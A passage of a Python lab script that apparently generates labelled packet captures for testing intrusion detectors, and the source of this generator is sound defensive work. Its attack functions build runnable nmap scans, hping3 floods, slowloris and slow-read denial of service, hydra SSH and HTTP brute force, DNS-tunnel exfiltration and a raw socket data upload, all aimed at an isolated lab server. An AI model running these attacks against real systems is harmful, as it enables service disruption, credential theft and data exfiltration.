            port_arg = ",".join(map(str, sorted({22, 53, 80, *rng.sample([21, 25, 443, 5201,
                                                                           8080, 3306], 2)})))
        else:
            timing = rng.choice([2, 3, 3, 4, 4])
            # T2 waits 0.4 s per probe: keep it to what fits the slot
            n = int(budget / 0.5) if timing == 2 else rng.choice(ctx.prof.scan_ports)
            start = rng.choice([1, 1, 1, rng.randint(1, 5000)])
            port_arg = f"{start}-{start + max(10, n) - 1}"
            if start > 22 or start + n < 22:
                port_arg = "22,80," + port_arg  # always touch the open ports too
        argv = ["nmap", "-n", "-Pn", flag, f"-T{timing}", "-p", port_arg, "--max-retries", "1",
                "--host-timeout", f"{max(5, int(budget))}s", SRV_IP]
        if flag == "-sV":
            argv[4:4] = ["--version-intensity", str(rng.randint(2, 7))]
        ctx.lab.run(atk, argv, budget + 10)
        return " ".join(argv)
    return run


def hping_flood(kind: str) -> Callable[[Ctx, Node, random.Random, float, dict], str]:
    """hping3 flood from the attacker's own address, rate limited (-i uN) and bounded (-c)."""
    def run(ctx: Ctx, atk: Node, rng: random.Random, budget: float, extra: dict) -> str:
        interval = rng.choice(ctx.prof.flood_interval_us)
        count = max(100, int(max(1.0, budget - 1.0) * 1e6 / interval))
        argv = ["hping3", "-q", "-i", f"u{interval}", "-c", str(count)]
        if kind == "syn":
            argv += ["-S", "-p", str(rng.choice([80, 80, 22])), "-w", str(rng.choice([512, 1024,
                                                                                     64240]))]
        elif kind == "udp":
            argv += ["--udp", "-p", str(rng.choice([53, 123, 161, 9999])), "-d",
                     str(rng.choice([32, 128, 512]))]
        else:
            argv += ["--icmp", "-d", str(rng.choice([56, 256, 1000]))]
        argv.append(SRV_IP)
        ctx.lab.run(atk, argv, budget + 5)
        return " ".join(argv)
    return run


def slow_http(mode: str) -> Callable[[Ctx, Node, random.Random, float, dict], str]:
    """slowhttptest slowloris (-H) or slow read (-X), bounded by -l seconds and -c sockets."""
    def run(ctx: Ctx, atk: Node, rng: random.Random, budget: float, extra: dict) -> str:
        conns = rng.randint(*ctx.prof.slow_conns)
        length = max(5, int(budget))
        argv = ["slowhttptest", mode, "-c", str(conns), "-r", str(rng.choice([20, 50, 100])),
                "-l", str(length), "-p", "3"]
        if mode == "-H":
            argv += ["-i", str(rng.choice([3, 5, 10])), "-s", "8192", "-t", "GET", "-x",
                     str(rng.choice([16, 24, 32])), "-u", f"http://{SRV_IP}/"]
        else:
            page = max(ctx.site.pages, key=lambda p: os.path.getsize(
                os.path.join(ctx.lab.workdir, "srv", "www", p)))
            argv += ["-w", "10", "-y", "24", "-n", str(rng.choice([2, 3, 5])), "-z", "32",
                     "-k", "3", "-u", f"http://{SRV_IP}/{page}"]
        ctx.lab.run(atk, argv, length + 15)
        return " ".join(argv)
    return run


def wordlist(rng: random.Random, path: str, n: int, real: str) -> bool:
    """Common passwords in a shuffled order; the real one is in it for about half the seeds."""
    words = rng.sample(COMMON_PASSWORDS, min(n, len(COMMON_PASSWORDS)))
    words += [f"{rng.choice(COMMON_PASSWORDS)}{rng.randint(1, 99)}" for _ in range(n - len(words))]
    hit = rng.random() < 0.5
    if hit:
        words.insert(rng.randint(len(words) // 2, len(words)), real)
    with open(path, "w") as fh:
        fh.write("\n".join(words) + "\n")
    return hit


def brute_ssh(ctx: Ctx, atk: Node, rng: random.Random, budget: float, extra: dict) -> str:
    """hydra against sshd with a small wordlist (-t 4 as hydra advises for ssh)."""
    path = os.path.join(ctx.lab.workdir, "ssh-words.txt")
    hit = wordlist(rng, path, rng.randint(20, 50), SSH_PASSWORD)
    argv = ["hydra", "-I", "-q", "-f", "-w", "3", "-t", str(rng.choice([2, 4])), "-l", SSH_USER,
            "-P", path,
            f"ssh://{SRV_IP}"]
    ctx.lab.run(atk, argv, budget)
    return " ".join(argv) + f" (password in list: {hit})"


def brute_http(ctx: Ctx, atk: Node, rng: random.Random, budget: float, extra: dict) -> str:
    """hydra http-get against the basic-auth /admin/ location."""
    path = os.path.join(ctx.lab.workdir, "http-words.txt")
    hit = wordlist(rng, path, rng.randint(60, 200), HTTP_PASSWORD)
    argv = ["hydra", "-I", "-q", "-f", "-t", str(rng.choice([2, 4, 8])), "-l", HTTP_USER, "-P",
            path]
    if rng.random() < 0.5:
        argv += ["-c", "0.05" if rng.random() < 0.5 else "0.1"]  # -c: wait per login attempt
    argv += [SRV_IP, "http-get", "/admin/"]
    ctx.lab.run(atk, argv, budget)
    return " ".join(argv) + f" (password in list: {hit})"


def dns_tunnel(ctx: Ctx, atk: Node, rng: random.Random, budget: float, extra: dict) -> str:
    """Exfiltration over DNS: base32 chunks of random 'data' as long labels, dig in batches."""
    domain = f"{rng.choice(['cdn-sync', 'telemetry', 'upd', 'a1'])}.{ZONE}"
    sid = f"{rng.getrandbits(24):06x}"
    data = rng.randbytes(rng.randint(6_000, 20_000))
    enc = base64.b32encode(data).decode().rstrip("=").lower()
    per_query = rng.choice([100, 150, 180])
    chunks = [enc[i:i + per_query] for i in range(0, len(enc), per_query)][:600]
    qtype = rng.choice(["TXT", "A", "CNAME", "MX"])
    end = time.monotonic() + budget
    sent = 0
    batch_path = os.path.join(ctx.lab.workdir, "dns-batch.txt")
    while sent < len(chunks) and time.monotonic() < end - 1:
        batch = chunks[sent:sent + rng.randint(5, 30)]
        with open(batch_path, "w") as fh:
            for j, chunk in enumerate(batch):
                labels = ".".join(chunk[k:k + 63] for k in range(0, len(chunk), 63))
                fh.write(f"@{SRV_IP} +tries=1 +time=1 +short {labels}.{sent + j}.{sid}."
                         f"{domain} {qtype}\n")
        ctx.lab.run(atk, ["dig", "-f", batch_path], max(1, end - time.monotonic()))
        sent += len(batch)
        time.sleep(min(rng.uniform(0.05, 0.6), max(0, end - time.monotonic())))
    return f"dig batches: {sent} queries {qtype} *.{sid}.{domain} ({len(data)} bytes)"


def exfil_upload(ctx: Ctx, atk: Node, rng: random.Random, budget: float, extra: dict) -> str:
    """Large upload (a CSV dump) to an unusual port on srv (nc sink), paced or at full speed."""
    port = extra["exfil_port"]
    size = rng.randint(*ctx.prof.exfil_bytes)
    path = os.path.join(ctx.lab.workdir, "exfil.csv")
    with open(path, "wb") as fh:
        fh.write(records_csv(rng, size))  # a database dump, sent in clear
    rate = rng.choice([1_000_000, 2_000_000, 5_000_000, 0])  # bytes/s, 0 = as fast as possible
    sender = (
        "import socket,sys,time\n"
        f"s=socket.create_connection(('{SRV_IP}',{port}),timeout=5)\n"
        f"f=open('{path}','rb');rate={rate};t0=time.monotonic();n=0\n"
        "while True:\n"
        "    b=f.read(65536)\n"
        "    if not b: break\n"
        "    s.sendall(b);n+=len(b)\n"
        "    if rate: time.sleep(max(0,n/rate-(time.monotonic()-t0)))\n"
        "s.shutdown(socket.SHUT_WR);s.close()\n"
    )
    ctx.lab.run(atk, [sys.executable, "-c", sender], budget)
    return f"upload {size} bytes to {SRV_IP}:{port} rate={rate or 'max'}"


ATTACKS = [
    Attack("scan-syn", "port-scan", (6, 20), nmap_scan("-sS")),
    Attack("scan-connect", "port-scan", (6, 20), nmap_scan("-sT")),
    Attack("scan-fin", "port-scan", (6, 15), nmap_scan("-sF")),
    Attack("scan-null", "port-scan", (6, 15), nmap_scan("-sN")),
    Attack("scan-xmas", "port-scan", (6, 15), nmap_scan("-sX")),
    Attack("scan-udp", "port-scan", (8, 20), nmap_scan("-sU")),
    Attack("scan-version", "port-scan", (10, 25), nmap_scan("-sV")),
    # flood slot lengths come from the profile (flood_seconds), see plan()
    Attack("flood-syn", "flood", (0, 0), hping_flood("syn")),
    Attack("flood-udp", "flood", (0, 0), hping_flood("udp")),
    Attack("flood-icmp", "flood", (0, 0), hping_flood("icmp")),
    Attack("slowloris", "slow-dos", (10, 25), slow_http("-H")),
    Attack("slowread", "slow-dos", (10, 25), slow_http("-X")),
    Attack("brute-ssh", "brute-force", (10, 25), brute_ssh),
    Attack("brute-http", "brute-force", (5, 15), brute_http),
    Attack("dns-tunnel", "dns-tunnel", (6, 20), dns_tunnel),
    Attack("exfil-upload", "exfil", (3, 12), exfil_upload),
]
FAMILIES = sorted({a.family for a in ATTACKS})


def select_attacks(spec: str) -> list[Attack]:
    """'all', 'none', or a comma list of attack names and/or family names."""
    if spec == "all":
        return list(ATTACKS)
    if spec in ("none", ""):
        return []
    chosen: list[Attack] = []
    for item in (s.strip() for s in spec.split(",") if s.strip()):
        hits = [a for a in ATTACKS if item in (a.name, a.family)]
        if not hits:
            names = ", ".join(a.name for a in ATTACKS)
            raise SystemExit(f"unknown attack {item!r}; names: {names}; "
                             f"families: {', '.join(FAMILIES)}")
        chosen += [a for a in hits if a not in chosen]
    return chosen


@dataclass
class Slot:
    attack: Attack
    attacker: str
    offset: float  # planned start, seconds after t0
    budget: float


def plan(attacks: list[Attack], attackers: list[str], duration: float, prof: Profile,
         rng: random.Random) -> tuple[list[Slot], float]:
    """Random order and lengths; spare time spread as random benign gaps between slots."""
    order = rng.sample(attacks, len(attacks))
    budgets = [round(rng.uniform(*(a.budget if a.family != "flood" else
                                   (prof.flood_seconds[0] + 1, prof.flood_seconds[1] + 1))), 1)
               for a in order]
    warm = max(5.0, min(15.0, 0.08 * duration))
    cool = max(5.0, min(10.0, 0.05 * duration))
    n = len(order)
    need = warm + cool + sum(b + LABEL_GRACE_S for b in budgets) + MIN_GAP_S * max(0, n - 1)
    total = max(duration, need)
    spare = total - need
    shares = [rng.expovariate(1.0) for _ in range(n + 1)] if n else [1.0]
    gaps = [spare * s / sum(shares) for s in shares]
    slots, t = [], warm + gaps[0]
    for i, (a, b) in enumerate(zip(order, budgets, strict=True)):
        who = attackers[0] if len(attackers) == 1 or rng.random() < 0.7 else rng.choice(attackers)
        slots.append(Slot(a, who, t, b))
        t += b + LABEL_GRACE_S + MIN_GAP_S + gaps[i + 1]
    return slots, total


# ----------------------------------------------------------------------------- pcap summary

def pcap_summary(path: str, labels: list[dict]) -> tuple[int, int, dict[str, int]]:
    """Count packets, and packets to/from each label's attacker inside its window."""
    per_label = {row["name"]: 0 for row in labels}
    windows = [(row["name"], socket.inet_aton(row["attacker_ip"]), row["start_ts"],
                row["end_ts"]) for row in labels]
    total = 0
    with open(path, "rb") as fh:
        head = fh.read(24)
        if len(head) < 24:
            return 0, os.path.getsize(path), per_label
        endian = "<" if head[:4] in (b"\xd4\xc3\xb2\xa1", b"\x4d\x3c\xb2\xa1") else ">"
        nano = head[:4] in (b"\x4d\x3c\xb2\xa1", b"\xa1\xb2\x3c\x4d")
        rec = struct.Struct(endian + "IIII")
        while True:
            h = fh.read(16)
            if len(h) < 16:
                break
            sec, frac, incl, _orig = rec.unpack(h)
            data = fh.read(incl)
            total += 1
            if not windows or len(data) < 34 or data[12:14] != b"\x08\x00":
                continue
            ts = sec + frac / (1e9 if nano else 1e6)
            src, dst = data[26:30], data[30:34]
            for name, ip, start, end in windows:
                if start <= ts <= end and ip in (src, dst):
                    per_label[name] += 1
    return total, os.path.getsize(path), per_label


# ----------------------------------------------------------------------------- main

def parse_args(argv: list[str] | None = None) -> argparse.Namespace:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0],
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--seed", type=int, required=True)
    ap.add_argument("--duration", type=float, required=True,
                    help="seconds of capture (extended if the attack slots need more)")
    ap.add_argument("--out", required=True, help="output prefix: PREFIX.pcap, PREFIX.labels.csv")
    ap.add_argument("--attacks", default="all",
                    help="all | none | comma list of names/families: "
                         + ", ".join(a.name for a in ATTACKS) + "; " + ", ".join(FAMILIES))
    ap.add_argument("--benign-clients", type=int, default=3)
    ap.add_argument("--benign", default="all",
                    help="all | comma list of benign activities: " + ", ".join(BENIGN)
                         + " (only the services and tools these need are started/checked)")
    ap.add_argument("--attackers", type=int, choices=(1, 2), default=2)
    ap.add_argument("--profile", choices=sorted(PROFILES), default="default",
                    help="traffic volume: small (committed samples), default, bench (bulk)")
    ap.add_argument("--snaplen", type=int, default=0,
                    help="tcpdump -s (0 = whole frames, the default; >=256 otherwise). A cut "
                         "IP packet is invalid to Suricata and netsensor (ipv4.trunc_pkt) "
                         "and opens no flow: keep whole frames for anything they replay")
    ap.add_argument("--large-mb", type=int, default=20, help="size of the generated large file")
    ap.add_argument("--keep-workdir", action="store_true", help="keep configs and logs")
    args = ap.parse_args(argv)
    if args.snaplen and args.snaplen < 256:
        ap.error("--snaplen below 256 truncates headers+payload too much")
    if not 1 <= args.benign_clients <= 40:
        ap.error("--benign-clients must be 1..40")
    if not 10 <= args.duration <= 3600:
        ap.error("--duration must be 10..3600 seconds")
    kinds = list(BENIGN) if args.benign == "all" else \
        [k.strip() for k in args.benign.split(",") if k.strip()]
    unknown = [k for k in kinds if k not in BENIGN]
    if unknown or not kinds:
        ap.error(f"--benign: unknown activity {', '.join(unknown) or '(none)'}; "
                 f"choose from {', '.join(BENIGN)}")
    args.benign_kinds = kinds
    return args


def needs(kinds: list[str], attacks: list[Attack]) -> tuple[set[str], list[str]]:
    """Services to start and tools to check for these benign activities and attacks."""
    services: set[str] = set()
    tools: list[str] = list(BASE_TOOLS)
    wanted = [BENIGN_NEEDS[k] for k in kinds]
    wanted += [ATTACK_NEEDS[a.name] if a.name in ATTACK_NEEDS else FAMILY_NEEDS[a.family]
               for a in attacks]
    for t, svc in wanted:
        services.update(svc)
        tools += [x for x in t if x not in tools]
    for svc in sorted(services):
        tools += [x for x in SERVICE_TOOLS[svc] if x not in tools]
    return services, tools


def preflight(tools: list[str]) -> None:
    if os.geteuid() != 0:
        raise SystemExit("run as root (namespaces, tcpdump, raw sockets)")
    missing = [t for t in tools if not shutil.which(t)]
    if missing:
        raise SystemExit(f"missing tools: {' '.join(missing)} (run pcaps/lab/install-deps.sh)")


def main(argv: list[str] | None = None) -> int:
    args = parse_args(argv)
    attacks = select_attacks(args.attacks)
    services, tools = needs(args.benign_kinds, attacks)
    preflight(tools)
    rng = random.Random(args.seed)
    prof = PROFILES[args.profile]
    attackers = ["atk1", "atk2"][: args.attackers]
    out_dir = os.path.dirname(os.path.abspath(args.out))
    os.makedirs(out_dir, exist_ok=True)
    pcap = os.path.abspath(args.out) + ".pcap"
    labels_path = os.path.abspath(args.out) + ".labels.csv"
    workdir = tempfile.mkdtemp(prefix=f"netlab-{os.getpid()}-")
    os.chmod(workdir, 0o755)  # nginx workers (www-data) read the site from here
    exfil_port = rng.choice([4444, 31337, 6667, 8081]) if any(
        a.name == "exfil-upload" for a in attacks) else None
    slots, total = plan(attacks, attackers, args.duration, prof, rng)
    if total > args.duration:
        log(f"duration extended {args.duration:.0f}s -> {total:.0f}s to fit {len(slots)} attacks")

    lab = Lab(args.benign_clients, attackers, workdir)

    def on_signal(signum, _frame):
        raise SystemExit(128 + signum)

    signal.signal(signal.SIGTERM, on_signal)
    signal.signal(signal.SIGHUP, on_signal)
    rows: list[dict] = []
    counts: dict[str, int] = {}
    try:
        log(f"seed={args.seed} duration={total:.0f}s profile={args.profile} "
            f"clients={args.benign_clients} benign={args.benign_kinds} "
            f"attacks={[s.attack.name for s in slots]}")
        site = make_site(os.path.join(workdir, "srv"), rng, args.large_mb, prof.object_max_bytes)
        lab.build()
        start_services(lab, rng, os.path.join(workdir, "srv"), exfil_port, services)
        if os.path.exists(pcap):
            os.unlink(pcap)
        lab.start_capture(pcap, args.snaplen)
        t0 = time.monotonic()
        ctx = Ctx(lab, site, prof, t0 + total)
        threads = [threading.Thread(target=benign_client, daemon=True,
                                    args=(ctx, c, args.seed * 1000 + i, counts,
                                          args.benign_kinds))
                   for i, c in enumerate(lab.clients)]
        for th in threads:
            th.start()
        for slot in slots:
            lab.stop.wait(max(0.0, t0 + slot.offset - time.monotonic()))
            atk = lab.attackers[slot.attacker]
            arng = random.Random(f"{args.seed}-{slot.attack.name}")
            start = time.time()
            what = slot.attack.fn(ctx, atk, arng, slot.budget, {"exfil_port": exfil_port})
            end = time.time() + LABEL_GRACE_S
            rows.append({"name": slot.attack.name, "family": slot.attack.family,
                         "attacker_ip": atk.ip, "victim_ip": SRV_IP, "start": iso(start),
                         "end": iso(end), "start_ts": f"{start:.6f}", "end_ts": f"{end:.6f}"})
            log(f"attack {slot.attack.name} [{slot.attack.family}] from {atk.ip}: "
                f"{end - start:.1f}s  {what}")
            lab.stop.wait(LABEL_GRACE_S)
        lab.stop.wait(max(0.0, ctx.end - time.monotonic()))
        for th in threads:
            th.join(timeout=35)
        lab.stop_capture()
    finally:
        lab.cleanup()
        if not args.keep_workdir:
            shutil.rmtree(workdir, ignore_errors=True)
        else:
            log(f"workdir kept: {workdir}")
    with open(labels_path, "w", newline="") as fh:
        w = csv.DictWriter(fh, ["name", "family", "attacker_ip", "victim_ip", "start", "end",
                                "start_ts", "end_ts"])
        w.writeheader()
        w.writerows(rows)
    for row in rows:
        row["start_ts"], row["end_ts"] = float(row["start_ts"]), float(row["end_ts"])
    n, size, per_label = pcap_summary(pcap, rows)
    log(f"benign activities: {dict(sorted(counts.items()))}")
    log(f"wrote {pcap}: {n} packets, {size} bytes; {labels_path}: {len(rows)} attacks")
    for name, c in per_label.items():
        log(f"  {name}: {c} attacker packets in its slot")
    return 0


if __name__ == "__main__":
    sys.exit(main())
